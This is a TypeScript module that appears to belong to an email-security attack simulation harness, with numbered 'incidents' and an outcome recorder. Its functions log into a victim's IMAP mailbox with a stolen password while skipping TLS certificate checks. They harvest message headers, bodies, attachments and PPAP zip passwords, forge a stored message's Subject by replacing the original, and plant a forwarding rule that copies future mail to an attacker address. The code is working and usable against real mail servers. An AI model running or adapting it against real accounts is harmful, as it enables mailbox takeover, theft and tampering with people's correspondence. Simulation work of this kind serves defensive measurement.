import { ImapFlow } from 'imapflow';
import { collectAttachments, findTextBody, parseMimeEntity } from '@ssmax/core';
import { headerBlock, rawHeader } from './compose-mail.js';
import type { AttackerContext, StolenPasswordFoothold } from './footholds.js';
import { OutcomeRecorder, type AttackOutcome } from './outcome.js';
import { findPpapPasswords, openCapturedZips } from './ppap.js';

export interface ReadMailboxOptions {
  /** Mailbox to read (default INBOX). */
  readonly mailbox?: string;
  /** At most this many newest messages (default 50). */
  readonly limit?: number;
  /**
   * After reading, replace the mail with this Message-ID by a copy whose outer Subject is `subject`
   * (IMAP APPEND, then the original deleted): the mailbox holder is shown the forged field.
   */
  readonly forgeSubject?: { readonly messageId: string; readonly subject: string };
}

/** `raw` with its first top-level Subject field replaced by (or, without one, given) `subject`. */
function withSubject(raw: Uint8Array, subject: string): Uint8Array {
  const text = Buffer.from(raw).toString('latin1');
  const end = text.search(/\r?\n\r?\n/);
  const head = end >= 0 ? text.slice(0, end) : text;
  const field = `Subject: ${subject}`;
  const forged = /^Subject:.*(\r?\n[ \t].*)*/im.test(head) ? head.replace(/^Subject:.*(\r?\n[ \t].*)*/im, field) : `${field}\r\n${head}`;
  return new Uint8Array(Buffer.from(forged + text.slice(head.length), 'latin1'));
}

/**
 * Records what a raw mail gives away: its header block (metadata), the whole message (body) and every
 * attachment that is readable (files). Encrypted parts (application/pkcs7-mime) are recorded as
 * metadata only, because their content is ciphertext to the attacker.
 */
export function recordMailContent(rec: OutcomeRecorder, raw: Uint8Array, where: string): void {
  const subject = rawHeader(raw, 'Subject') ?? '';
  rec.obtain({ kind: 'metadata', bytes: headerBlock(raw), note: `headers of "${subject}" ${where}` });
  rec.obtain({ kind: 'body', bytes: raw, note: `message "${subject}" ${where}` });
  let root;
  try {
    root = parseMimeEntity(raw);
  } catch {
    return;
  }
  for (const pw of findPpapPasswords(findTextBody(root) ?? '')) {
    rec.obtain({ kind: 'credentials', bytes: new Uint8Array(Buffer.from(pw, 'utf8')), note: `PPAP password stated in "${subject}" ${where}` });
  }
  for (const a of collectAttachments(root)) {
    if (/^application\/(x-)?pkcs7-(mime|signature)$/i.test(a.contentType)) {
      rec.obtain({ kind: 'metadata', filename: a.filename, note: `${a.filename} (${a.content.byteLength} bytes, CMS ciphertext or signature) ${where}` });
      continue;
    }
    rec.obtain({ kind: 'files', bytes: a.content, filename: a.filename, note: `file ${a.filename} (${a.contentType}) ${where}` });
  }
}

function imapConnect(ctx: AttackerContext, foothold: StolenPasswordFoothold): { host: string; port: number; servername: string } {
  try {
    const o = ctx.net.connectOptions(ctx.address, foothold.imap.host, foothold.imap.port);
    return { host: o.host, port: o.port, servername: o.servername };
  } catch {
    // Not published by name: the world handed the endpoint itself.
    return { host: foothold.imap.host, port: foothold.imap.port, servername: foothold.imap.host };
  }
}

/**
 * Incident 6: logs in to the victim's mailbox over IMAP (RFC 9051) with the stolen password and fetches
 * the newest messages. A second factor (the server wants more than the password) shows up as AUTH_FAILED.
 */
export async function readMailboxWithStolenPassword(
  ctx: AttackerContext,
  foothold: StolenPasswordFoothold,
  o: ReadMailboxOptions = {},
): Promise<AttackOutcome> {
  const rec = new OutcomeRecorder('stolen-password-imap');
  rec.obtain({ kind: 'credentials', bytes: new Uint8Array(Buffer.from(`${foothold.user}:${foothold.password}`)), note: `stolen password of ${foothold.user}` });
  const target = imapConnect(ctx, foothold);
  rec.act(`IMAP from ${ctx.address} to ${foothold.imap.host}:${foothold.imap.port}, LOGIN ${foothold.user} with the stolen password`);
  const client = new ImapFlow({
    host: target.host,
    port: target.port,
    servername: target.servername,
    secure: false,
    // ImapFlow passes `tls` options to net.connect too: this is how the socket leaves from the attacker's address.
    tls: { localAddress: ctx.address, family: 4, rejectUnauthorized: false } as never,
    auth: { user: foothold.user, pass: foothold.password },
    logger: false,
    connectionTimeout: 10_000,
    greetingTimeout: 10_000,
  });
  client.on('error', () => undefined);
  try {
    await client.connect();
  } catch (err) {
    const e = err as { authenticationFailed?: boolean; message?: string; responseText?: string; code?: string };
    if (e.authenticationFailed || /auth/i.test(e.responseText ?? '') || /auth/i.test(e.message ?? '')) {
      rec.fail('AUTH_FAILED', `Cannot log in as ${foothold.user}. ${e.responseText ?? e.message ?? 'The server refused the password'}.`);
      rec.act(`login refused: ${e.responseText ?? e.message}`);
    } else {
      rec.fail('CONNECTION_FAILED', e.message ?? String(err));
    }
    client.close();
    return rec.done();
  }
  try {
    const mailbox = o.mailbox ?? 'INBOX';
    const lock = await client.getMailboxLock(mailbox);
    try {
      const status = client.mailbox;
      const exists = status && typeof status === 'object' ? status.exists : 0;
      rec.act(`selected ${mailbox}: ${exists} message(s)`);
      if (exists > 0) {
        const first = Math.max(1, exists - (o.limit ?? 50) + 1);
        const forge: { uid: number; raw: Uint8Array }[] = [];
        const wanted = o.forgeSubject?.messageId.replace(/^<|>$/g, '');
        for await (const m of client.fetch(`${first}:*`, { source: true, uid: true })) {
          if (!m.source) continue;
          recordMailContent(rec, new Uint8Array(m.source), `read from ${foothold.user}'s ${mailbox} (UID ${m.uid})`);
          if (wanted && (rawHeader(new Uint8Array(m.source), 'Message-ID') ?? '').includes(wanted)) forge.push({ uid: m.uid, raw: new Uint8Array(m.source) });
        }
        for (const f of forge) {
          await client.append(mailbox, Buffer.from(withSubject(f.raw, o.forgeSubject!.subject)));
          await client.messageDelete(String(f.uid), { uid: true });
          rec.act(`replaced UID ${f.uid} by a copy with the outer Subject "${o.forgeSubject!.subject}" (APPEND, original deleted)`);
        }
      }
    } finally {
      lock.release();
    }
    openCapturedZips(rec);
    await client.logout();
  } catch (err) {
    rec.fail('CONNECTION_FAILED', (err as Error).message);
    client.close();
  }
  return rec.done();
}

export interface PlantForwardingRuleOptions {
  /** Where copies go: the attacker's own mailbox. */
  readonly forwardTo: string;
}

/**
 * Incident 7: plants a forwarding rule in the victim's mailbox with the stolen password, through the
 * rule interface the world exposes (sim-org's mailbox). A second factor or a policy against external
 * forwarding are reported as AUTH_FAILED / FORWARDING_REFUSED.
 */
export async function plantForwardingRule(foothold: StolenPasswordFoothold, o: PlantForwardingRuleOptions): Promise<AttackOutcome> {
  const rec = new OutcomeRecorder('forwarding-rule');
  rec.obtain({ kind: 'credentials', bytes: new Uint8Array(Buffer.from(`${foothold.user}:${foothold.password}`)), note: `stolen password of ${foothold.user}` });
  if (!foothold.rules) {
    rec.fail('RULES_UNREACHABLE', `Cannot plant a forwarding rule for ${foothold.user}. The scenario gives no access to the mailbox rules.`);
    return rec.done();
  }
  rec.act(`set a forwarding rule ${foothold.user} → ${o.forwardTo} with the stolen password`);
  try {
    await foothold.rules.addForwardingRule(foothold.user, { password: foothold.password }, o.forwardTo);
    rec.act('rule accepted: later mail to the victim is copied to the attacker');
  } catch (err) {
    const e = err as { code?: string; message?: string };
    rec.fail(typeof e.code === 'string' ? e.code : 'RULE_REFUSED', e.message ?? String(err));
    rec.act(`rule refused: ${e.message ?? String(err)}`);
  }
  return rec.done();
}
